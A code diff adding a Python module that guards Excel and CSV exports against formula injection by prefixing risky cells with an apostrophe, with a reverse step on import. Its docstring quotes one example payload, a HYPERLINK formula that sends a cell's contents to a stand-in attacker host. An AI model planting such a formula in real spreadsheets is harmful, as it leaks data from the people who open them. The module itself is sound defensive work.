@@ -1,0 +1,37 @@
+"""Spreadsheet cells that cannot become formulas (CSV/formula injection).
+
+A member named ``=HYPERLINK("http://evil.example/?x="&A2,"点击")`` must reach Excel, WPS or
+LibreOffice as text, not as a live formula. Following OWASP, text that starts with ``= + - @``,
+a tab or a carriage return gets a leading apostrophe; numbers (negative ones too) stay numbers.
+The import strips that apostrophe again (``unescape``), so an exported file imports back as
+the original text.
+
+Every Excel and CSV writer passes its rows through ``escape_row`` (or ``append``).
+"""
+from collections.abc import Iterable
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+QUOTE = "'"
+
+
+def escape(value):
+    """Text that a spreadsheet would read as a formula gets a leading apostrophe; everything else is unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return QUOTE + value
+    return value
+
+
+def escape_row(values: Iterable) -> list:
+    return [escape(v) for v in values]
+
+
+def append(ws, values: Iterable) -> None:
+    """``ws.append`` for an openpyxl sheet, with every text cell escaped."""
+    ws.append(escape_row(values))
+
+
+def unescape(text: str) -> str:
+    """Undo ``escape``: an apostrophe followed by a formula start is dropped; any other text is unchanged."""
+    if text.startswith(QUOTE) and text[1:2] and text[1:].startswith(FORMULA_STARTS):
+        return text[1:]
+    return text
